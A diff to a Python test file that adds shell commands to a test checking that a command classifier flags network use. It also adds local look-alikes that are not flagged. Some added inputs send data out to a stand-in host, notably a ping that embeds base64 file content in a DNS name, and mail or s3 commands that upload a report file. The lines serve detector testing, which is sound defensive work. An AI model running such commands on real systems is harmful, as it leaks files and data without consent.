@@ -120,6 +120,18 @@ def test_a_command_built_at_run_time_is_said_so() -> None:
         "openssl s_client -connect example.invalid:443",
         "bash -c 'curl -s https://example.invalid/'",
         "echo 'curl -s https://example.invalid/' | sh",
+        "ping -c1 $(head -c 20 README.md | base64).example.invalid",
+        "getent hosts x.example.invalid",
+        "traceroute example.invalid",
+        "sendmail ops@example.invalid < report.txt",
+        "mail -s hi ops@example.invalid < report.txt",
+        "git send-email --to=ops@example.invalid 0001.patch",
+        "git archive --remote=ssh://example.invalid/repo HEAD",
+        "aws s3 cp report.txt s3://bucket/",
+        "rclone copy app remote:bucket",
+        "php -r \"echo file_get_contents('http://example.invalid/');\"",
+        "python3 -c 'import boto3; boto3.client(\"s3\")'",
+        "python3 -c 'import socket; socket.gethostbyname(\"x.example.invalid\")'",
     ],
 )
 def test_network_commands_are_the_network_category_too(command: str) -> None:
@@ -130,6 +142,8 @@ def test_network_commands_are_the_network_category_too(command: str) -> None:
     "command",
     [
         "git status",
+        "git archive HEAD -o release.tar",
+        "php -r \"echo file_get_contents('composer.json');\"",
         "git log --oneline -3",
         "git fetch ../mirror",
         "git clone . /tmp/copy",
